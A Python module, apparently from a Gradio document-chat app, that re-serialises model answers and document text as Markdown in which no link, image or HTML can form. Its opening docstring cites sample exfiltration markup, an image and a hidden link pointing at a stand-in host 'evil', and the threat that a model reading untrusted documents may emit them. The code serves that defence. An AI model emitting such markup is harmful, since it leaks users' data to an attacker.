"""Text from documents, file names and the model, made safe to show as Markdown.

Documents are untrusted, and so is the model once it has read them: `![x](https://evil/?q=...)`
in a passage or an answer would make the browser fetch that URL the moment it is shown, and
`[click here](https://evil "x")` or a reference link would hide where a click goes. Passages and
names are shown as literal text (`literal`). Model answers (`model_output`) are parsed with a
CommonMark parser and written out again in a small canonical Markdown in which no link, image or
HTML can form: every link, reference link, autolink and image becomes its label followed by its
target as text, HTML is shown as text, and all other text is escaped. Only bare URLs stay
clickable in the browser (GFM autolinks), and their text is their target. Code keeps its
formatting and is never parsed as Markdown. The page's Content-Security-Policy
(`img-src 'self' data: blob:`) is the backstop for images (app/web/edge.py).

Marks (`Mark`: a sentence of the answer, a class from a fixed set and a title) wrap sentences in
`<span class=... title=...>`, the only HTML an answer's own text gets: each sentence's ends are
placed in the source text as private-use characters (any such character the model wrote is dropped
first), survive the re-serialisation as text, and only there, in running text, become the tags; in
code they are removed. The title is escaped for an attribute, `$` included (Gradio's LaTeX).

Why re-serialise instead of escaping the input: the browser renders with a different parser
(marked, in Gradio's Chatbot) than any server-side check, and the forms a link can take
(titles in three quotings, nested brackets, labels over several lines, reference definitions,
entities) are too many to catch with patterns; the canonical output gives both parsers nothing
to disagree about. Proven over the CommonMark and GFM specifications' examples in
tests/test_safe_links.py.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

# What gives inline text a meaning in (GitHub-flavoured) Markdown: emphasis, code, links and
# images, tables, strike-through. HTML specials are turned into entities separately.
_LITERAL = re.compile(r"([\\`*_\[\]!|~])")

# HTML is off: tags and comments stay text and are escaped with everything else.
_PARSER = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])

# In running text: everything that can start a link, an image, code, emphasis, a table cell or
# strike-through. `<`, `>` and `&` become entities (no HTML, no autolink, no entity).
_TEXT_SPECIAL = re.compile(r"[\\`*_\[\]|~]")
# Inside a bare URL, `_`, `*` and `~` are kept as they are so that the browser's autolink keeps
# the address intact; brackets, backslashes, backticks and pipes are still escaped.
_URL_SPECIAL = re.compile(r"[\\`\[\]|]")
_BARE_URL = re.compile(r"(?:(?:https?|ftp)://|www\.)\S+", re.IGNORECASE)
# A mark's ends in the source text: U+F0000 + its index opens it, U+FFFFD closes it (the plane-15
# private-use characters, which no answer needs; any the model wrote are dropped).
_MARK_BASE = 0xF0000
_MARK_CLOSE = "\U000ffffd"
_MARK_CHARS = re.compile("[\U000f0000-\U000fffff]")
MARK_CLASSES = frozenset({"claim claim-weak", "claim claim-unsupported"})
MAX_TITLE = 400
# What would start a block (heading, list, quote, setext underline) at the start of a line (after
# the opening of a mark, which becomes a tag only after this check).
_LINE_START = re.compile(r"^([ \t]*[\U000f0000-\U000fffff]*)([#+=-]|\d{1,9}(?=[.)]))", re.MULTILINE)
# Text direction controls make a line display in another order than it reads (and a URL look
# like another): dropped from answers.
_BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
_FENCE_INFO = re.compile(r"[A-Za-z0-9_+#.-]{1,32}")
_BACKTICKS = re.compile(r"`+")
# What makes a link, or changes an address, in text that a parser takes out of a code span.
_LINK_MAKERS = re.compile(r"[\[\]<>]|&#?\w+;")


def _html(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def literal(text: str) -> str:
    """Show `text` exactly as written (a passage, a file name, a section title)."""
    return _LITERAL.sub(r"\\\1", _html(text))


@dataclass(frozen=True)
class Mark:
    """A sentence of an answer to wrap: `sentence` as it is written in the answer (found in order,
    each after the one before), `css_class` one of MARK_CLASSES, `title` plain text (escaped here)."""

    sentence: str
    css_class: str
    title: str


def model_output(text: str, marks: Sequence[Mark] = ()) -> str:
    """An answer's Markdown with no link, image or HTML: each link's target is shown as text. Each
    of `marks` found in the text wraps its sentence in a span with its class and title."""
    text = _MARK_CHARS.sub("", _BIDI_CONTROLS.sub("", text))
    text = _place_marks(text, marks)
    tree = SyntaxTreeNode(_PARSER.parse(text))
    out = "\n".join(_blocks(tree.children)).strip("\n")
    return _mark_tags(out, marks) if marks else out


def _place_marks(text: str, marks: Sequence[Mark]) -> str:
    """`text` with each mark's sentence between its opening and closing character. A sentence not
    found (after the previous one) is left unmarked."""
    spans: list[tuple[int, int, int]] = []
    cursor = 0
    for i, mark in enumerate(marks):
        sentence = _MARK_CHARS.sub("", _BIDI_CONTROLS.sub("", mark.sentence)).strip()
        at = text.find(sentence, cursor) if sentence and "\n" not in sentence else -1
        if at < 0 or mark.css_class not in MARK_CLASSES:
            continue
        spans.append((i, at, at + len(sentence)))
        cursor = at + len(sentence)
    for i, start, end in reversed(spans):
        text = f"{text[:start]}{chr(_MARK_BASE + i)}{text[start:end]}{_MARK_CLOSE}{text[end:]}"
    return text


def _title(text: str, limit: int = MAX_TITLE) -> str:
    """A mark's title as bounded text, its lines kept (no direction controls, no private-use marks)."""
    lines = (" ".join(line.split()) for line in _MARK_CHARS.sub("", _BIDI_CONTROLS.sub("", text)).splitlines())
    text = "\n".join(line for line in lines if line)
    return text if len(text) <= limit else text[: limit - 1] + "…"


def _mark_tags(out: str, marks: Sequence[Mark]) -> str:
    """The marks' characters in the serialised Markdown turned into balanced tags, line by line (a
    sentence never crosses a line); a close with nothing open is dropped."""
    lines = []
    for line in out.split("\n"):
        parts: list[str] = []
        open_ = False
        pos = 0
        for m in _MARK_CHARS.finditer(line):
            parts.append(line[pos : m.start()])
            pos = m.end()
            if open_:
                parts.append("</span>")
                open_ = False
            if m.group() != _MARK_CLOSE:
                mark = marks[ord(m.group()) - _MARK_BASE]
                title = "&#10;".join(html.escape(t, quote=True) for t in _title(mark.title).split("\n"))
                title = title.replace("$", "&#36;")
                parts.append(f'<span class="{mark.css_class}" title="{title}">')
                open_ = True
        parts.append(line[pos:])
        if open_:
            parts.append("</span>")
        lines.append("".join(parts))
    return "\n".join(lines)


# ---------------------------------------------------------------- blocks


def _blocks(nodes: list[SyntaxTreeNode], tight: bool = False) -> list[str]:
    """Lines of a sequence of blocks, a blank line between two blocks (none in a tight list)."""
    lines: list[str] = []
    previous = ""
    for node in nodes:
        block = _block(node, previous)
        if lines and block and not tight:
            lines.append("")
        lines.extend(block)
        previous = node.type
    return lines


def _block(node: SyntaxTreeNode, previous: str) -> list[str]:
    kind = node.type
    if kind == "paragraph":
        return _inline_lines(node)
    if kind == "heading":
        content = _inline(node).replace("\n", " ").strip()
        return [f"{'#' * int(node.tag[1])} {content}".rstrip()]
    if kind in ("fence", "code_block"):
        return _code_block(_MARK_CHARS.sub("", node.content), node.info if kind == "fence" else "")
    if kind == "hr":
        return ["___"]
    if kind == "blockquote":
        return [f"> {line}" if line else ">" for line in _blocks(node.children)]
    if kind in ("bullet_list", "ordered_list"):
        return _list(node, alternate=previous == kind)
    if kind == "table":
        return _table(node)
    return [_escape(node.content)] if node.content else []  # html_block and the like: as text


def _list(node: SyntaxTreeNode, alternate: bool) -> list[str]:
    """A list with canonical markers; two lists in a row use different markers so that they stay
    two lists."""
    ordered = node.type == "ordered_list"
    number = int(str(node.attrs.get("start", 1))) if ordered else 0
    tight = all(p.hidden for item in node.children for p in item.children if p.type == "paragraph")
    lines: list[str] = []
    for item in node.children:
        if ordered:
            marker = f"{number}{')' if alternate else '.'} "
            number += 1
        else:
            marker = "+ " if alternate else "- "
        body = _blocks(item.children, tight=tight) or [""]
        if lines and not tight:
            lines.append("")
        pad = " " * len(marker)
        lines.append((marker + body[0]).rstrip())
        lines.extend(pad + line if line else "" for line in body[1:])
    return lines


def _table(node: SyntaxTreeNode) -> list[str]:
    rows: list[list[str]] = []
    for section in node.children:
        for row in section.children:
            rows.append([_inline(cell).replace("\n", " ").strip() for cell in row.children])
    if not rows:
        return []
    width = len(rows[0])
    lines = ["| " + " | ".join(rows[0]) + " |", "|" + " --- |" * width]
    lines.extend("| " + " | ".join((row + [""] * width)[:width]) + " |" for row in rows[1:])
    return lines


def _code_block(content: str, info: str) -> list[str]:
    """A fenced block that nothing inside can close, with a plain language name (never
    `mermaid`: Gradio would draw it as a diagram, and diagrams can hold links)."""
    content = _break_latex(content)
    runs = [len(r) for r in _BACKTICKS.findall(content)]
    fence = "`" * max(3, max(runs, default=0) + 1)
    words = info.split()
    language = words[0] if words and _FENCE_INFO.fullmatch(words[0]) else ""
    if language.lower().startswith("mermaid"):
        language = ""
    body = content[:-1] if content.endswith("\n") else content
    return [fence + language, *(body.split("\n") if body else []), fence]


def _break_latex(code: str) -> str:
    """Gradio cuts `$$...$$` out of the whole message before parsing it as Markdown; a `$$` in
    code could pair with one elsewhere and expose the code's raw text to the Markdown parser. A
    word joiner (invisible) between two dollars keeps them from pairing."""
    return code.replace("$$", "$\u2060$").replace("$$", "$\u2060$")


# ---------------------------------------------------------------- inlines


def _inline_lines(node: SyntaxTreeNode) -> list[str]:
    return _inline(node).split("\n")


def _inline(node: SyntaxTreeNode) -> str:
    """A paragraph's, heading's or cell's inline content."""
    parts = "".join(_inlines(node.children[0].children if node.children else []))
    return _LINE_START.sub(_escape_line_start, parts)


def _escape_line_start(m: re.Match[str]) -> str:
    indent, mark = m.group(1), m.group(2)
    return f"{indent}{mark}\\" if mark[0].isdigit() else f"{indent}\\{mark}"


def _inlines(nodes: list[SyntaxTreeNode]) -> Iterator[str]:
    for node in nodes:
        kind = node.type
        if kind == "text":
            yield _escape(node.content)
        elif kind == "softbreak":
            yield "\n"
        elif kind == "hardbreak":
            yield "\\\n"
        elif kind == "code_inline":
            yield _code_span(_MARK_CHARS.sub("", node.content))
        elif kind in ("em", "strong", "s"):
            mark = {"em": "*", "strong": "**", "s": "~~"}[kind]
            inner = "".join(_inlines(node.children))
            yield f"{mark}{inner}{mark}" if inner.strip() else inner
        elif kind == "link":
            yield _shown_link("".join(_inlines(node.children)), _plain(node.children), str(node.attrs["href"]))
        elif kind == "image":
            yield _shown_link(_escape(_plain(node.children)), _plain(node.children), str(node.attrs["src"]))
        else:  # html_inline and anything a later parser version adds: as text
            yield _escape(node.content)


def _shown_link(label: str, label_text: str, href: str) -> str:
    """A link as text: its label and, in parentheses, where it goes (just the address when the
    label is the address, as for an autolink)."""
    target = _PARSER.normalizeLinkText(href)
    if label_text in (target, href, f"mailto:{target}") or not label.strip():
        return _escape(target)
    return f"{label} ({_escape(target)})"


def _plain(nodes: list[SyntaxTreeNode]) -> str:
    """The visible text of inline nodes (an image's alt text, a link's label)."""
    out: list[str] = []
    for node in nodes:
        if node.type in ("text", "code_inline"):
            out.append(node.content)
        elif node.type in ("softbreak", "hardbreak"):
            out.append(" ")
        else:
            out.append(_plain(node.children))
    return "".join(out)


def _escape(text: str) -> str:
    """Running text as literal Markdown; bare URLs keep the characters an address needs."""
    out: list[str] = []
    pos = 0
    for m in _BARE_URL.finditer(text):
        out.append(_TEXT_SPECIAL.sub(r"\\\g<0>", _html(text[pos : m.start()])))
        out.append(_URL_SPECIAL.sub(r"\\\g<0>", _html(m.group(0))))
        pos = m.end()
    out.append(_TEXT_SPECIAL.sub(r"\\\g<0>", _html(text[pos:])))
    return "".join(out)


def _code_span(code: str) -> str:
    """Inline code as a code span, unless it holds what could make a link: parsers disagree about
    where a code span ends once strike-through or a bare URL runs into it (marked does), so such
    code is shown as text between visible backticks instead."""
    if _LINK_MAKERS.search(code):
        return f"\\`{_escape(code)}\\`"
    code = _break_latex(code)
    runs = [len(r) for r in _BACKTICKS.findall(code)]
    fence = "`" * (max(runs, default=0) + 1)
    pad = " " if code.startswith(("`", " ")) or code.endswith(("`", " ")) else ""
    return f"{fence}{pad}{code}{pad}{fence}"
